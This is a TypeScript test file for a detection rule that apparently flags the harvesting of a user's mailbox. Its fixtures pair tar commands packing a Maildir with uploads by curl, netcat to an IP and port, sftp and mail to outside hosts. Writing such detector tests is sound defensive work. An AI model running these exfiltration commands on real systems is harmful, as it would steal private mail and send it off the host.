import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const HOME = '/home/clerk';

/** What is said of mail on a host that records executions and store reads, and no file being written before `later`. */
async function said(user: string, pack: string, upload: string, later = (_: Process): void => {}): Promise<string[]> {
  const log = new HostLog();
  const { path } = log.deliver({ to: 'clerk' });
  log.wait(MINUTE);
  const shell = log.shell(user);
  shell.run(pack).read(path);
  log.wait(MINUTE);
  shell.run(upload);
  later(shell);
  const alerts = await scanLog(log);
  return alerts.filter(alert => alert.analytic === 'AN1310').map(alert => alert.severity);
}

const TALK = '/usr/bin/curl -s -T slides/talk.odp http://files.example.net/talks/';

test('own mail packed into a named file, and another file uploaded: other work', async () => {
  assert.deepEqual(await said('clerk', `/bin/tar -C ${HOME} -czf /mnt/disk/mail.tgz Maildir`, TALK), []);
  assert.deepEqual(await said('clerk', `/bin/tar czf /mnt/disk/mail.tgz ${HOME}/Maildir`, TALK), []);
});

test('the packed file itself, mail put where no word says, or mail of somebody else: a harvest', async () => {
  const whole = '/usr/bin/curl -s -T /mnt/disk/mail.tgz http://files.example.net/talks/';
  const tar = `/bin/tar -C ${HOME} -czf /mnt/disk/mail.tgz Maildir`;
  for (const [user, pack, upload] of [
    ['clerk', tar, whole],
    ['clerk', `/bin/cat ${HOME}/Maildir/cur/1`, TALK],
    ['clerk', '/bin/tar cz Maildir', TALK],
    ['clerk', '/bin/tar cz -C / home/clerk/Maildir/cur', TALK],
    ['clerk', `/bin/tar cz ${HOME}`, '/usr/bin/curl -s -T mail.tgz http://files.example.net/talks/'],
    ['clerk', `/bin/tar -xf ${HOME}/Maildir/x.tar`, TALK],
    ['dev', tar, TALK],
  ] as const)
    assert.notDeepEqual(await said(user, pack, upload), [], `${user}: ${pack}; ${upload}`);
});

test('what takes its data from elsewhere, or from where writes may go unrecorded: a harvest', async () => {
  const tar = `/bin/tar -C ${HOME} -czf /mnt/disk/mail.tgz Maildir`;
  for (const upload of [
    '/usr/bin/curl -s -T - http://files.example.net/talks/',
    '/usr/bin/curl -s -T /opt/talks/talk.odp http://files.example.net/talks/',
    '/usr/bin/nc 203.0.113.66 9001',
    '/usr/bin/sftp dev@files.example.net',
    '/usr/bin/mail -s talk dev@example.net',
    '/usr/bin/curl -s -T slides/talk.odp -T /opt/talks/talk.odp http://files.example.net/talks/',
  ])
    assert.deepEqual(await said('clerk', tar, upload), ['low'], upload);
});

test('files turn out to be recorded as they are written: an upload that says which it takes had none of the mail', async () => {
  const writes = (shell: Process): void => void shell.run('/usr/bin/vim notes.txt').write(`${HOME}/notes.txt`);
  const cat = `/bin/cat ${HOME}/Maildir/cur/1`;
  assert.deepEqual(await said('clerk', cat, TALK), ['low']);
  assert.deepEqual(await said('clerk', cat, TALK, writes), []);
  const nameless = '/usr/bin/nc 203.0.113.66 9001';
  assert.deepEqual(await said('clerk', cat, nameless), ['low']);
  assert.deepEqual(await said('clerk', cat, nameless, writes), ['low'], 'what it took, no word says');
});
